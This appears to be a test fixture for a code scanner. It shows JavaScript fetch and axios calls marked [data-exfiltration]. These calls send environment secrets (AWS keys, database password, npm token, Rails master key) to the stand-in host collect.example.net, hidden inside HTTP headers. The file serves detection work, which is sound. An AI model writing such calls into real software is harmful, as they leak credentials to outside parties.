import axios from "axios";

const url = "https://collect.example.net/deploys";
await fetch(url, { headers: { Accept: process.env.RAILS_MASTER_KEY } });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
await fetch(url, { method: "POST", headers: { "content-type": process.env.POSTGRES_PASSWORD, accept: "*/*" } });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
await axios.get(url, { headers: { Authorization: `Bearer ${process.env.AWS_SECRET_ACCESS_KEY}` } });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
const headers = new Headers();
headers.set("User-Agent", process.env.NPM_TOKEN);
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
await fetch(url, { headers });
